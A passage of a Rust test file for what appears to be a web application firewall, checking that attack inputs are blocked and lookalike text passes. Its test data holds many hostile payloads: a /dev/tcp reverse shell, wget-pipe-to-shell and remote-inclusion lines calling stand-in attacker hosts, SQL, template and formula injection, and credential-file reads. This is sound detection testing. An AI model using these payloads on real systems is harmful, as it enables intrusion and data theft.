            "--b\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\n{charset}\r\n--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nhello\r\n--b--\r\n"
        )
    };
    let utf7 = body("utf-7");
    let headers = with_body("POST", "multipart/form-data; boundary=b", &utf7);
    assert!(request_rule_ids(&headers, &utf7).contains(&"protocol-multipart-charset"));
    for charset in ["UTF-8", "utf8", ""] {
        let ordinary = body(charset);
        let headers = with_body("POST", "multipart/form-data; boundary=b", &ordinary);
        assert!(
            request_rule_ids(&headers, &ordinary).is_empty(),
            "{charset:?}"
        );
    }
}

#[test]
fn backup_file_inside_path_is_found() {
    let id = "protocol-restricted-extension";
    for path in [
        "/index.php~/foo/bar/",
        "/index.php~",
        "/app/config.yml~/x",
        "/index.php~;x=1",
        "/index.php~.",
        "/index.php~%20",
        "/index.php~::$DATA",
    ] {
        assert!(request_rule_ids(&request(path), "").contains(&id), "{path}");
    }
    for path in [
        "/~alice/index.html",
        "/docs/a~b/c",
        "/files/report.pdf",
        "/~",
        "/~/settings",
        "/blog/approx~/",
    ] {
        assert!(
            !request_rule_ids(&request(path), "").contains(&id),
            "{path}"
        );
    }
}

#[test]
fn url_imitating_request_host_is_found() {
    let id = "rfi-host-confusion";
    for path in [
        "/go?next=https%3A%2F%2Fexample.com%40evil.net%2F",
        "/get?x=https://example.com:1234/",
        "/fetch?url=http%3A%2F%2Fexample.com%3A6379%2F",
    ] {
        assert!(request_rule_ids(&request(path), "").contains(&id), "{path}");
    }
    // A name that starts with the site's, or the site on another web port,
    // also fits CDN, clone and staging URLs, so it counts from paranoia
    // level 2.
    for path in [
        "/get?x=https://example.com.evil.com/",
        "/get?x=https://example.com:8080/",
    ] {
        assert!(
            !request_rule_ids(&request(path), "").contains(&id),
            "{path}"
        );
        assert!(level2_rule_ids(&request(path), "").contains(&id), "{path}");
    }
    let body = r#"{"callback": "https://example.com.attacker.io/hook"}"#;
    let headers = with_body("POST", "application/json", body);
    assert!(level2_rule_ids(&headers, body).contains(&id));
    for path in [
        "/go?next=https://example.com/account",
        "/go?next=https://www.example.com:443/",
        "/share?url=https://news.example.org:8080/story",
        "/login?next=https%3A%2F%2Fexample.com.s3.amazonaws.com%2Fimg%2Flogo.png",
    ] {
        assert!(request_rule_ids(&request(path), "").is_empty(), "{path}");
    }
}

/// Returns whether a JSON body with `value` under `key` is blocked.
fn json_value_blocked(key: &str, value: &str) -> bool {
    let body = serde_json::json!({ key: value }).to_string();
    blocked(&with_body("POST", "application/json", &body), &body)
}

#[test]
fn shell_syntax_in_host_parameter_is_blocked() {
    for path in [
        "/tools/ping?host=127.0.0.1%3Bcat%20flag",
        "/tools/ping?host=x%20%26%20calc",
        "/tools/ping?host=cat%20flag",
        "/tools/ping?host=id",
        "/tools/ping?ip=8.8.8.8%0Acat%20notes",
        "/tools/ping?domain=example.com%24(whoami)",
        "/tools/run?cmd=python3.10%20x.py",
    ] {
        assert!(blocked(&request(path), ""), "{path}");
    }
    for path in [
        "/tools/ping?host=db-1.internal.example.com",
        "/tools/ping?host=2001:db8::1",
        "/tools/ping?host=fe80::1%25eth0",
        "/tools/run?cmd=rebuild-index",
    ] {
        assert!(!blocked(&request(path), ""), "{path}");
    }
}

#[test]
fn address_then_short_command_is_blocked() {
    for value in [
        "8.8.8.8; cat flag",
        "127.0.0.1 | echo vulnerable",
        "report.txt& cat notes",
        "localhost & notepad",
        "8.8.8.8\ncat flag",
    ] {
        assert!(json_value_blocked("target", value), "{value}");
    }
    for value in [
        "v1.2; cat food",
        "Node.js | Echo framework",
        "2024-01-01; echo chamber",
        "a.b@c.com; id card",
        "github.com/user/repo; git clone",
        "Tea & cake at 10.30; bring friends",
    ] {
        assert!(!json_value_blocked("note", value), "{value}");
    }
}

#[test]
fn windows_obfuscation_is_blocked() {
    for value in [
        "x& %ProgramData:~0,1%%ProgramData:~9,2%",
        "x& .( $pshome[4]+$pshome[30]+'x')",
        "x& gci env:",
        "x& sal x iex",
        "x& (gcm i*x)",
        "x& [System.Diagnostics.Process]::Start(\"calc\")",
        "x& [Convert]::FromBase64String(\"SQBFAFgA\")",
        "x& $env:comspec",
        "x& c:\\programdata\\payload.exe",
        "x| whoami.exe",
    ] {
        assert!(json_value_blocked("target", value), "{value}");
    }
    for value in [
        "[Convert]::ToInt32(\"10\")",
        "$env:PATH",
        "gci . -recurse",
        "Set-Alias np notepad",
        "Run setup.exe & restart",
        "C:\\Users\\anna\\setup.exe",
    ] {
        assert!(!json_value_blocked("note", value), "{value}");
    }
}

#[test]
fn environment_tampering_is_blocked() {
    for value in [
        "x;LD_PRELOAD=/tmp/x.so id",
        "x; export BASH_ENV=/tmp/x",
        "x;unset HISTFILE",
        "x;bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "x;exec 5<>/dev/udp/203.0.113.5/53",
    ] {
        assert!(json_value_blocked("target", value), "{value}");
    }
    for value in [
        "LD_PRELOAD explained",
        "export LD_LIBRARY_PATH=/usr/local/lib",
        "/dev/tcp explained",
    ] {
        assert!(!json_value_blocked("note", value), "{value}");
    }
}

#[test]
fn function_constructor_is_blocked() {
    for value in [
        "{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97,108,101,114,116,40,49,41))()}}",
        "{{constructor.constructor('import(\"//evil.example/x.js\")')()}}",
        "{{$on.constructor('import(1)')()}}",
    ] {
        assert!(json_value_blocked("text", value), "{value}");
    }
    for value in [
        "constructor(private http: HttpClient) {}",
        "class A { constructor() { super(); } }",
        "this.constructor.name",
    ] {
        assert!(!json_value_blocked("text", value), "{value}");
    }
}

#[test]
fn sensitive_path_values_are_blocked() {
    for path in [
        "/download?file=%2Fusr%2Flocal%2Ftomcat%2Fconf%2Ftomcat-users.xml",
        "/download?file=%2Fetc%2Fkubernetes%2Fadmin.conf",
        "/download?file=%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
        "/download?file=C%3A%5CProgramData%5CMySQL%5CMySQL%20Server%208.0%5Cmy.ini",
        "/download?file=WEB-INF%2Fweb.xml",
        "/download?file=%2Fhome%2Fapp%2F.git-credentials",
        "/download?file=..%25u2215..%25u2215etc%2Fpasswd",
    ] {
        assert!(blocked(&request(path), ""), "{path}");
    }
    for path in [
        "/download?file=invoices%2F2024%2Fmarch.pdf",
        "/docs?path=docs%2Fgetting-started%2Finstall.md",
        "/search?q=WEB-INF+is+a+folder+in+Java+web+apps",
        "/search?q=application.properties",
    ] {
        assert!(!blocked(&request(path), ""), "{path}");
    }
}

#[test]
fn metadata_and_loopback_evasions_are_blocked() {
    for path in [
        "/api/fetch?url=http%3A%5C%5C169.254.169.254%5Clatest%5Cmeta-data",
        "/api/fetch?url=http%3A%2F%2Flocalhost.%2Fadmin",
        "/api/fetch?url=http%3A%2F%2Fa9fea9fe.rbndr.us%2F",
    ] {
        assert!(blocked(&request(path), ""), "{path}");
    }
    assert!(!blocked(
        &request("/go?url=https%3A%2F%2Fdocs.aws.amazon.com%2FAWSEC2%2Flatest%2FUserGuide%2Finstancedata-data-retrieval.html"),
        ""
    ));
}

#[test]
fn script_url_with_fragment_tail_is_blocked() {
    assert!(blocked(
        &request("/index.php?page=http%3A%2F%2Fevil.example%2Fshell.txt%23"),
        ""
    ));
    for path in [
        "/go?return_to=https%3A%2F%2Fexample.com%2Fpage%23",
        "/go?return_to=https%3A%2F%2Fexample.com%2F%23",
    ] {
        assert!(!blocked(&request(path), ""), "{path}");
    }
}

#[test]
fn code_injection_markers_are_blocked() {
    for value in [
        "[#assign ex = 'freemarker.template.utility.Execute'?new()]",
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
        "Object.prototype.polluted=1",
        "{\"__js_function\":\"function(){return 1}\"}",
    ] {
        assert!(json_value_blocked("tpl", value), "{value}");
    }
    for value in [
        "Object.prototype.hasOwnProperty.call(obj, key)",
        "What's new() in Python?",
        "freemarker templates tutorial",
    ] {
        assert!(!json_value_blocked("tpl", value), "{value}");
    }
}

#[test]
fn classic_asp_session_id_argument_is_blocked() {
    assert!(blocked(
        &request("/index.php?ASPSESSIONIDQQGGGNCG=LKJHGFDSAPOIUYTREWQ"),
        ""
    ));
    assert!(!blocked(&request("/index.php?aspsession=1"), ""));
}

#[test]
fn markdown_code_spans_in_prose_pass() {
    for value in [
        "Run `rm -rf node_modules && npm install` and try again.",
        "To reproduce: `curl -s https://api.example.com/v1/health | jq .status`",
        "Use `base64 -d < in.txt > out.bin` to decode.",
        "See `nc -lvnp 4444` on the listener side.",
    ] {
        assert!(!json_value_blocked("body", value), "{value}");
    }
}

#[test]
fn backtick_substitution_next_to_prose_is_blocked() {
    for value in [
        "hello world `id`",
        "my name is `whoami`",
        "ping `whoami`.evil.example",
        "x `sleep 5`",
        "`sleep 7`",
        "a`id`",
        "nice one `cat /etc/passwd`",
        // Shell syntax inside a code span still counts.
        "nice post `wget -qO- evil.example/x | sh`",
    ] {
        assert!(json_value_blocked("comment", value), "{value}");
    }
}

#[test]
fn php_long_arrays_and_obfuscated_calls_are_blocked() {
    for value in [
        "$HTTP_GET_VARS['cmd']",
        "$HTTP_POST_VARS['a']",
        "O:+4:\"User\":0:{}",
        "\"\\163\\171\\163\\164\\145\\155\"('id')",
    ] {
        assert!(json_value_blocked("expr", value), "{value}");
    }
    for value in ["HTTP GET vars in old PHP", "O: 4 users online"] {
        assert!(!json_value_blocked("expr", value), "{value}");
    }
}

#[test]
fn graphql_string_arguments_are_inspected() {
    let body = r#"mutation { ping(host: "8.8.8.8; id") }"#;
    let headers = with_body("POST", "application/graphql", body);
    assert!(blocked(&headers, body));
    let body = r#"mutation { comment(body: "<img src=x onerror=alert(1)>") { id } }"#;
    let headers = with_body("POST", "application/graphql", body);
    assert!(blocked(&headers, body));
    let body = r#"query { products(first: 10, filter: "red shoes") { id name } }"#;
    let headers = with_body("POST", "application/graphql", body);
    assert!(!blocked(&headers, body));
}

#[test]
fn arithmetic_expansion_value_is_blocked() {
    for path in [
        "/get?math=%24%5B%5D",
        "/get?math=%24%5B1%2B1%5D",
        "/get?math=%24%28%287*7%29%29",
    ] {
        assert!(blocked(&request(path), ""), "{path}");
    }
    for path in [
        "/api/query?path=%24%5B0%5D",
        "/api/query?path=%24%5B*%5D",
        "/api/query?path=%24%5B0%5D.name",
        "/search?q=%24%28%28i%2B1%29%29+in+bash",
    ] {
        assert!(!blocked(&request(path), ""), "{path}");
    }
}

/// Returns the ids of the rules that a form body triggers.
fn form_rule_ids(body: &str) -> Vec<&'static str> {
    let headers = with_body("POST", "application/x-www-form-urlencoded", body);
    request_rule_ids(&headers, body)
}

#[test]
fn unclosed_database_function_calls_are_found() {
    let id = "sqli-unclosed-function-call";
    for body in [
        "pay=date_add%28",
        "pay=dayofweek%28",
        "pay=get_lock%28",
        "pay=aes_decrypt%28",
        "pay=timestampdiff%28",
        "pay=json_build_object%28",
        "pay=pg_read_binary_file%28",
        "pay=rawtohex%28",
        "pay=typeof%28",
        "pay=inet6_ntoa%28",
    ] {
        assert!(form_rule_ids(body).contains(&id), "{body}");
    }
    for value in ["new Date(", "list.insert(", "typeof x", "date_add(a, b)"] {
        assert!(!query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn quote_fragments_are_found() {
    let id = "sqli-quote-fragment";
    for value in [
        "3' ' 1",
        "x' 'y",
        "abc\" \"1",
        "' ? # = #",
        "' <> #",
        "\" # = ?",
        ",varname\"",
        ", col`",
        ",name)",
    ] {
        assert!(query_rules(value).contains(&id), "{value}");
    }
    for value in [
        "rock 'n' roll",
        "say 'hi' !!",
        "Let's go !!",
        "O'Brien, 'Bob'",
        "5' 11\" tall",
        "apples, pears",
        "',' separated",
    ] {
        assert!(!query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn chained_condition_after_equals_is_found() {
    let id = "sqli-glued-string-or-chained-condition";
    for body in ["pay%3D%7C%7C%28c%3D%3D%3D", "v%3D%26%26+%28b%3E%3D"] {
        assert!(form_rule_ids(body).contains(&id), "{body}");
    }
    for value in ["x = a || (b === c)", "a ||= b", "x == y && z"] {
        assert!(!query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn having_with_aggregate_comparison_is_found() {
    let id = "sqli-order-by-probe";
    for value in [
        " HAVING SUM(price) > 100",
        "1 having count(*) >= 2",
        "x having avg(y) is null",
    ] {
        assert!(query_rules(value).contains(&id), "{value}");
    }
    for value in ["having trouble (again)", "having fun > working"] {
        assert!(!query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn more_mongodb_operators_are_found() {
    let id = "sqli-nosql-operator";
    for body in ["u%5B%24all%5D=1", "u%5B%24size%5D=2", "u%5B%24text%5D=a"] {
        assert!(form_rule_ids(body).contains(&id), "{body}");
    }
    for body in ["u%5Ball%5D=1", "price%24=2", "u%5B%24sizes%5D=2"] {
        assert!(!form_rule_ids(body).contains(&id), "{body}");
    }
}

#[test]
fn database_procedures_and_catalogs_are_found() {
    let id = "sqli-system-name";
    for value in [
        "xp_fileexist",
        "exec xp_regwrite 'HKLM'",
        "sp_oamethod",
        "sp_configure 'show advanced options',1",
        "performance_schema",
        "select * from pg_authid",
        "dbms_java",
    ] {
        assert!(query_rules(value).contains(&id), "{value}");
    }
    for value in ["xp points", "sp_500 index", "performance schema review"] {
        assert!(!query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn account_name_quote_must_end_a_string() {
    let id = "sqli-auth-bypass";
    for value in ["admin' or 1=1", "admin'--", "root\" or \"", "user'#"] {
        assert!(query_rules(value).contains(&id), "{value}");
    }
    for value in [
        "Click 'Test' or 'Cancel'",
        "choose \"user\" or \"group\"",
        "the `root` or the `home` folder",
    ] {
        assert!(!query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn null_in_prose_skips_the_sql_tokenizer() {
    let id = "sqli-libinjection";
    for value in ["null or undefined", "x == null || y"] {
        assert!(!query_rules(value).contains(&id), "{value}");
    }
    for value in ["@@version or x", "1' or '1'='1"] {
        assert!(query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn typed_literal_tautologies_are_found() {
    for value in [
        "1 or x'41'=x'41'",
        "' or b'1'=b'1'-- ",
        "1 or 0x61=0x61",
        "1 or [a]=[a]",
        "5 and [x]>0",
    ] {
        assert!(
            blocked(&request(&format!("/search?q={}", encode(value))), ""),
            "{value}"
        );
    }
    for value in ["box or bag", "1 or [2]", "x or y = z"] {
        assert!(query_rules(value).is_empty(), "{value}");
    }
}

#[test]
fn statement_shapes_are_found() {
    let id = "sqli-keyword-sequence";
    for value in [
        "x' and match (title) against ('admin*' in boolean mode)-- ",
        "1; load data local infile '/etc/passwd' into table t",
        "create function sys_exec returns integer soname 'udf.so'",
        "VALUES ('192.168.0.1', 'test')",
        "values(1,null)",
    ] {
        assert!(query_rules(value).contains(&id), "{value}");
    }
    for value in [
        "watch the match (live) against Arsenal",
        "load the data file",
        "our values (trust and care)",
        "the function returns a list",
    ] {
        assert!(!query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn having_with_quoted_operand_is_found() {
    let id = "sqli-order-by-probe";
    for value in ["1 having 'a'='a'", "' having `id`=1-- ", "1 having 1>0"] {
        assert!(query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn exponent_glued_to_keyword_is_found() {
    let id = "sqli-subquery-or-evasion";
    for value in [
        "1e1union select 1",
        "1.e0from users",
        "2e3and 1=1",
        ".1e1or 1=1",
    ] {
        assert!(query_rules(value).contains(&id), "{value}");
    }
    for value in ["1e10 or more", "model 2e and up", "3e or 4e"] {
        assert!(!query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn delay_functions_need_delay_arguments() {
    let id = "sqli-function";
    for value in [
        "sleep(5)",
        "1 and sleep(5",
        "sleep(20.to_i)",
        "SeleCT sLeEp (mOD(10,5))",
        "sleep('10')",
        "benchmark(5000000,md5(1))",
        "exp(~(select * from(select user())x))",
        "polygon((select * from(select user())a))",
    ] {
        assert!(query_rules(value).contains(&id), "{value}");
    }
    for value in [
        "sleep(8 hours)",
        "sleep(ing) bags",
        "benchmark(s)",
        "benchmark (2024) gpu",
        "polygon (matic) price",
        "exp(x) derivative",
    ] {
        assert!(!query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn paired_backticks_before_comment_pass() {
    let id = "sqli-tautology";
    let value = "the bug is in `where x = 1 or y = 2` -- it should be `and`.";
    assert!(!query_rules(value).contains(&id), "{value}");
    for value in ["admin`-- ", "x` #"] {
        assert!(query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn set_operator_before_select_is_found() {
    let id = "sqli-statement-fragment";
    for value in [
        "1 except select 1,2",
        "x' intersect select null,null-- ",
        "1 minus select 1 from dual",
        "1 except all (select @@version)",
    ] {
        assert!(query_rules(value).contains(&id), "{value}");
    }
    for value in [
        "open daily except select holidays",
        "intersect select items",
        "minus select fees",
    ] {
        assert!(!query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn condition_glued_between_quotes_is_found() {
    let id = "sqli-glued-string-or-chained-condition";
    for value in ["a'or'a", "x'and'1", "1\"or\"1", "x')or('1"] {
        assert!(query_rules(value).contains(&id), "{value}");
    }
    for value in ["the \"or\" operator", "Romeo and Juliet", "'or' is a word"] {
        assert!(!query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn prose_with_sql_words_passes() {
    for (id, value) in [
        ("sqli-keyword-sequence", "call me (555) 123-4567"),
        ("sqli-stacked-query", "Preheat to 200; use a tray"),
        ("sqli-order-by-probe", "order by 3pm for same day delivery"),
        ("sqli-tautology", "width or length (cm)"),
        ("sqli-tautology", "buy now and if (needed) return it"),
    ] {
        assert!(!query_rules(value).contains(&id), "{id} {value}");
    }
    for value in [
        "1; call proc(1)",
        "1; use master--",
        "1 order by 3--",
        "1 or length(database())=8",
        "1 and if(1=1,sleep(5),0)",
        "x' and ascii('a')=97-- ",
    ] {
        assert!(
            blocked(&request(&format!("/search?q={}", encode(value))), ""),
            "{value}"
        );
    }
}

#[test]
fn subquery_after_boolean_operator_is_found() {
    let id = "sqli-subquery-or-evasion";
    let attack = "1.2.3.4' and (select password from users where id=1) like 'a%";
    assert!(query_rules(attack).contains(&id), "{attack}");
    let headers: Vec<(String, Vec<u8>)> = request("/track")
        .into_iter()
        .chain([("x-forwarded-for".to_string(), attack.as_bytes().to_vec())])
        .collect();
    assert!(blocked(&headers, ""), "{attack}");
    for value in [
        "pick a size and (select one below)",
        "toppings or (select extras from the menu list)",
    ] {
        assert!(!query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn language_name_with_hash_passes() {
    let id = "sqli-unclosed-quote-keyword";
    for value in ["what's new in C#", "it's in C# and F#"] {
        assert!(!query_rules(value).contains(&id), "{value}");
    }
    for value in ["admin'#", "x' or 1=1 #", "x'--"] {
        assert!(query_rules(value).contains(&id), "{value}");
    }
}

#[test]
fn ambiguous_multipart_bodies_blocked() {
    let boundary = "multipart/form-data; boundary=XyZ";
    // A delimiter in mid-line starts a part for some parsers only.
    let midline = "--XyZ\r\nContent-Disposition: form-data; name=\"c\"\r\n\r\nx--XyZ\r\n<script>alert(1)</script>\r\n\r\ny\r\n--XyZ--\r\n";
    // A delimiter line with more text after the boundary.
    let suffixed = "--XyZ\r\nContent-Disposition: form-data; name=\"c\"\r\n\r\nx\r\n--XyZabc\r\n\r\ny\r\n--XyZ--\r\n";
    // Parts after the closing delimiter.
    let after_close = "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--XyZ--\r\n--XyZ\r\nContent-Disposition: form-data; name=\"c\"\r\n\r\n<script>alert(1)</script>\r\n--XyZ--\r\n";
    for body in [midline, suffixed, after_close] {
        assert!(
            blocked(&with_body("POST", boundary, body), body),
            "{body:?}"
        );
    }

    // Headers ended by a bare LF before a value with CRLF CRLF in it.
    let mixed = "--XyZ\r\nContent-Disposition: form-data; name=\"q\"\n\n1' UNION SELECT password FROM users--\r\n\r\nok\r\n--XyZ--\r\n";
    assert!(blocked(&with_body("POST", boundary, mixed), mixed));

    // Two dispositions, a repeated file name, a folded header, a file name
    // in single quotes, and only `filename*`.
    for head in [
        "Content-Disposition: form-data; name=\"q\"\r\nContent-Disposition: form-data; name=\"q\"; filename=\"a.txt\"",
        "Content-Disposition: form-data; name=\"f\"; filename=\"a.txt\"; filename=\"shell.php\"",
        "Content-Disposition: form-data; name=\"f\";\r\n filename=\"shell.php\"",
        "Content-Disposition: form-data; name=\"f\"; filename='shell.php'",
        "Content-Disposition: form-data; name=\"q\"; filename*=UTF-8''a.txt",
    ] {
        let body = format!("--XyZ\r\n{head}\r\n\r\n1' UNION SELECT password FROM users--\r\n--XyZ--\r\n");
        assert!(blocked(&with_body("POST", boundary, &body), &body), "{head}");
    }

    for body in [
        // The boundary as the start of a longer word in mid-line is content.
        "--XyZ\r\nContent-Disposition: form-data; name=\"c\"\r\n\r\nsee x--XyZabc here\r\n--XyZ--\r\n",
        // A file name that is not ASCII, written as an encoded word.
        "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"=?utf-8?B?0YTQsNC50Lsuc3Zn?=\"; filename*=utf-8''%D1%84%D0%B0%D0%B9%D0%BB.svg\r\n\r\ndata\r\n--XyZ--\r\n",
        // An identity transfer encoding named in the part.
        "--XyZ\r\nContent-Disposition: form-data; name=\"c\"\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nhello\r\n--XyZ--\r\n",
    ] {
        assert!(!blocked(&with_body("POST", boundary, body), body), "{body:?}");
    }

    // A boundary longer than RFC 2046 allows, and a repeated boundary.
    let long = "a".repeat(71);
    let body = format!(
        "--{long}\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--{long}--\r\n"
    );
    let content_type = format!("multipart/form-data; boundary={long}");
    assert!(blocked(&with_body("POST", &content_type, &body), &body));

    let two_boundaries = "multipart/form-data; boundary=B1; boundary=B2";
    let body = "--B1\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--B1--\r\n";
    assert!(blocked(&with_body("POST", two_boundaries, body), body));
}

#[test]
fn upload_file_names_parsed_like_servers() {
    let upload = |disposition: &str| {
        format!("--XyZ\r\nContent-Disposition: form-data; name=\"file\"; {disposition}\r\nContent-Type: application/octet-stream\r\n\r\ndata\r\n--XyZ--\r\n")
    };
    let content_type = "multipart/form-data; boundary=XyZ";
    for disposition in [
        "filename*=UTF-8''.htaccess",
        "filename*=UTF-8''..%2F..%2F..%2Fvar%2Fwww%2Fhtml%2Fshell.php",
        r#"filename="..\..\..\windows\win.ini""#,
        r#"filename="a.jpg; filename=shell.php""#,
        r#"filename="Q1 results; final.xlsx""#,
        r#"filename="a=b.txt""#,
    ] {
        let body = upload(disposition);
        assert!(
            blocked(&with_body("POST", content_type, &body), &body),
            "{disposition}"
        );
    }
    for disposition in [
        r#"filename="John's CV.pdf""#,
        r#"filename="O'Reilly - Learning SQL.pdf""#,
        "filename*=UTF-8''r%C3%A9sum%C3%A9.pdf",
    ] {
        let body = upload(disposition);
        assert!(
            !blocked(&with_body("POST", content_type, &body), &body),
            "{disposition}"
        );
    }
}

#[test]
fn xml_entities_behind_decoys_are_expanded() {
    // A declaration inside a comment does not count, and `]>` inside a
    // processing instruction or a quoted value does not end the
    // declarations. Comment syntax inside a quoted value is text.
    let payload = "1 UNION SELECT username,password FROM users--";
    let filler: String = (0..100).map(|n| format!(r#"<!ENTITY f{n} "x">"#)).collect();
    for subset in [
        format!(r#"<!-- <!ENTITY p "1"> --><!ENTITY p "{payload}">"#),
        format!(r#"<?pi ]> ?><!ENTITY p "{payload}">"#),
        format!(r#"<!ENTITY q "]>"><!ENTITY p "{payload}">"#),
        format!(r#"<!ENTITY a "<!--"><!ENTITY p "{payload}"><!ENTITY b "-->">"#),
        format!(r#"{filler}<!ENTITY p "{payload}">"#),
    ] {
        let body = format!("<!DOCTYPE r [{subset}]><r><id>&p;</id></r>");
        assert!(
            blocked(&with_body("POST", "application/xml", &body), &body),
            "{subset}"
        );
    }
}

#[test]
fn xml_internal_entities_are_read_expanded() {
    for body in [
        r#"<!DOCTYPE r [<!ENTITY p "1 UNION SELECT username,password FROM users--">]><r><id>&p;</id></r>"#,
        r#"<!DOCTYPE r [<!ENTITY p '&#60;script&#62;alert(1)&#60;/script&#62;'>]><r a="&p;"/>"#,
    ] {
        assert!(
            blocked(&with_body("POST", "application/xml", body), body),
            "{body}"
        );
    }
}

#[test]
fn control_bytes_separate_sql_words() {
    for separator in ["\\u0001", "\\u0002", "\\u000e", "\\u001f", "\\u00a0"] {
        let body = format!(
            r#"{{"id":"1{separator}UNION{separator}SELECT{separator}username,password{separator}FROM{separator}users--"}}"#
        );
        assert!(
            blocked(&with_body("POST", "application/json", &body), &body),
            "{separator}"
        );
    }
    // Latin-1 no-break spaces, one or more in a row.
    for separator in ["%A0", "%A0%A0"] {
        let path = format!("/items?id=1{separator}UNION{separator}SELECT{separator}password{separator}FROM{separator}users");
        assert!(blocked(&request(&path), ""), "{separator}");
    }
    // Inside other characters 0xA0 is a continuation byte, not a space.
    for text in ["voilà", "Рим", "déjà vu à la carte"] {
        let body = format!(r#"{{"q":"{text}"}}"#);
        assert!(
            !blocked(&with_body("POST", "application/json", &body), &body),
            "{text}"
        );
    }
}

#[test]
fn ordinary_traffic_of_other_kinds_passes() {
    for (content_type, body) in [
        ("application/grpc", "\0\0\0\0\x05\n\x03bob"),
        ("application/json; charset=utf8", r#"{"a":"b"}"#),
    ] {
        assert!(
            !blocked(&with_body("POST", content_type, body), body),
            "{content_type}"
        );
    }
    for path in [
        "/search?q=%E6%9D%B1%E4%BA%AC%EF%BC%8F%E5%A4%A7%E9%98%AA",
        "/search?q=%EF%BC%9C%E9%87%8D%E8%A6%81%EF%BC%9E",
    ] {
        assert!(!blocked(&request(path), ""), "{path}");
    }
}

#[test]
fn narrower_injection_families_are_blocked() {
    assert_all_blocked(
        "narrow",
        &[
            "${applicationScope}",
            "#{facesContext.externalContext}",
            "{{config.items()}}",
            "{{ self }}",
            "{$smarty.version}",
            "<esi:include src=\"http://x.example/\"/>",
            "<!--esi <esi:assign name=\"a\" value=\"b\"/> -->",
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x.example/?d=\"&A1,\"click\")",
            "1 && 1",
            "1') || ('1",
            "-1 UNION TABLE users",
            "-1 UNION VALUES ROW(1,2)",
            "jar:file:///tmp/x.zip!/x",
            "/Index/\\think\\app/invokefunction",
        ],
    );
    let paths = [
        "/index.php?page=%5C%5Cattacker.example%5Cshare%5Cshell.php",
        "/index.php?page=%5C%5Cattacker.example%40SSL%40443%5Cdav%5Cx.php",
        "/index.php?page=%2F%2Fattacker.example%2Fshell.txt",
        "/index.php?file=http:%5C%5Cattacker.example%5Cx.txt",
        "/index.php?function=call_user_func_array&vars[0]=system&vars[1][]=id",
        "/user/register?mail[%23post_render][]=exec&mail[%23markup]=id",
        "/index.php?-s",
        "/index.php?-d+allow_url_include%3d1",
        "/WEB-INF/web.xml",
        "/app?jservsession=fixedvalue123",
        "/index.action?class[classLoader][resources][dirContext][docBase]=x",
    ];
    for path in paths {
        assert!(blocked(&request(path), ""), "{path}");
    }
    let mut upgrade = request("/");
    upgrade.push(("upgrade".to_string(), b"h2c".to_vec()));
    upgrade.push((
        "http2-settings".to_string(),
        b"AAMAAABkAARAAAAAAAIAAAAA".to_vec(),
    ));
    assert!(blocked(&upgrade, ""));
}

#[test]
fn narrower_injection_lookalikes_pass() {
    assert_all_pass(
        "narrow",
        &[
            "{{ user.name }}",
            "${PWD}",
            "= total",
            "=SUM(A1:A3)",
            "+1 555 0100",
            "1 & 2",
            "jar of jam",
            "the union table tennis club",
            "union values matter",
            "esiason",
        ],
    );
    let paths = [
        "/index.php?page=2",
        "/index.php?page=about%2Fteam",
        "/api?callback=jQuery1124_1700000000",
        "/search?function=search&q=system",
        "/docs/web-info/overview",
        "/app?session=dark",
        "/list?sort=-s",
    ];
    for path in paths {
        assert!(!blocked(&request(path), ""), "{path}");
    }
    let mut websocket = request("/chat");
    websocket.push(("upgrade".to_string(), b"websocket".to_vec()));
    assert!(!blocked(&websocket, ""));
}

/// The automaton walk of the prefilter finds the groups that searching for
/// each literal alone finds, on fixed values and on generated ones that
/// repeat and overlap the rules' short literals.
#[test]
fn prefilter_walk_matches_each_literal_search() {
    let filter = filter_from(r#"{"filter": {"paranoia_level": 4}}"#);
    let words = filter.prefilter.set_words();
    let mut texts: Vec<String> = [
        "",
        "2",
        "page=2",
        "/api/items",
        "' union select password from users--",
        "<script>alert(1)</script>",
        "${jndi:ldap://x/a}",
        "../../etc/passwd",
        ";cat /etc/passwd",
        "O'Reilly & Sons — ünïcödé 文字",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        "selectselect unionunion ==//..\\\\",
    ]
    .iter()
    .map(|text| text.to_string())
    .collect();

    // A linear congruential generator over an alphabet of letters, digits
    // and the punctuation that short literals are made of.
    let alphabet: Vec<char> = "aeilnoprstuxSELCT0129 /\\.;:='\"<>()$%&|-_{}é"
        .chars()
        .collect();
    let mut state: u64 = 0x2545_f491_4f6c_dd1d;
    for _ in 0..3000 {
        let mut text = String::new();
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1);
        let length = (state >> 59) as usize + 1;
        for _ in 0..length * 2 {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1);
            text.push(alphabet[(state >> 33) as usize % alphabet.len()]);
        }
        texts.push(text);
    }

    for text in &texts {
        let mut walked = vec![0; words];
        let mut each = vec![0; words];
        filter.prefilter.scan(text, &mut walked);
